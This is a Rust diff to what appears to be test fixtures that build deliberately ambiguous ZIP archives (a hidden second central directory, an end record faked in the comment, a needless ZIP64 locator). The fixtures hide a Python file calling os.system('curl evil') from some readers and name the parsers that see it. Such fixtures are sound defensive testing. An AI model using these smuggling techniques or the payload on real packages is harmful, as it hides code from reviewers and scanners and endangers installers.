@@ -108,28 +108,36 @@ pub fn zip(entries: &[Entry]) -> Vec<u8> {
     out
 }
 
-/// The content a reader of the hidden directory would find.
+/// The content a reader of the hidden directory would find (a name as long as `ok`'s, so that the hidden
+/// directory is as long as the declared one).
 fn evil() -> Entry {
-    file("python/evil.py", b"import os; os.system('curl evil')\n")
+    file("python/ev.py", b"import os; os.system('curl evil')\n")
 }
 
 fn ok() -> Entry {
-    file("python/ok.py", b"print('ok')\n")
+    file(
+        "python/ok.py",
+        b"print('ok')  # a module of a layer that is fine\n",
+    )
 }
 
-/// The local records of ok and evil, and a directory for each alone (offsets into those records).
-fn two_directories() -> (Vec<u8>, Vec<u8>, Vec<u8>) {
+/// The local records of ok and evil, the directory of ok alone, and the directory of evil alone with its
+/// offset field at `evil_offset_shift` bytes before its record.
+fn two_directories(evil_offset_shift: u32) -> (Vec<u8>, Vec<u8>, Vec<u8>) {
     let both = parts(&[ok(), evil()], 0);
     let ok_only = parts(&[ok()], 0);
     let ok_len = ok_only.locals.len() as u32;
-    let evil_only = parts(&[evil()], ok_len);
+    let evil_only = parts(&[evil()], ok_len - evil_offset_shift);
     (both.locals, ok_only.central, evil_only.central)
 }
 
-/// A second central directory hidden between the declared one and the end record: readers that locate the
-/// directory from the end record's position (end minus size) find the hidden one.
+/// A second central directory hidden between the declared one and the end record. Python's zipfile and
+/// Info-ZIP take the directory to end where the end record starts and read the hidden one, shifting every
+/// offset by the difference (hence the shifted offset of its entry).
 pub fn second_directory() -> Vec<u8> {
-    let (locals, declared, hidden) = two_directories();
+    let declared_len = parts(&[ok()], 0).central.len() as u32;
+    let (locals, declared, hidden) = two_directories(declared_len);
+    assert_eq!(hidden.len(), declared.len());
     let mut out = locals.clone();
     out.extend(&declared);
     out.extend(&hidden);
@@ -138,9 +146,10 @@ pub fn second_directory() -> Vec<u8> {
 }
 
 /// An end record faked inside the archive comment: the real record's comment holds a second directory and an
-/// end record pointing to it, which a reader scanning backwards takes for the real one.
+/// end record pointing to it, which a reader scanning backwards (Python's zipfile, Info-ZIP) takes for the real
+/// one.
 pub fn end_record_in_comment() -> Vec<u8> {
-    let (locals, declared, hidden) = two_directories();
+    let (locals, declared, hidden) = two_directories(0);
     let mut out = locals.clone();
     out.extend(&declared);
     let real_at = out.len();
@@ -157,14 +166,14 @@ pub fn end_record_in_comment() -> Vec<u8> {
 }
 
 /// A ZIP64 locator although no classic field is saturated, pointing at a ZIP64 end record for another
-/// directory: readers that honour ZIP64 records read the other one.
+/// directory: readers that honour ZIP64 records (Python's zipfile) read the other one, others the declared one.
 pub fn needless_zip64() -> Vec<u8> {
-    let (locals, declared, hidden) = two_directories();
+    let (locals, declared, hidden) = two_directories(0);
     let mut out = locals.clone();
-    let hidden_at = out.len() as u64;
-    out.extend(&hidden);
     let declared_at = out.len() as u32;
     out.extend(&declared);
+    let hidden_at = out.len() as u64;
+    out.extend(&hidden);
     let record_at = out.len() as u64;
     out.extend(SIG_ZIP64_EOCD.to_le_bytes());
     out.extend(44u64.to_le_bytes());
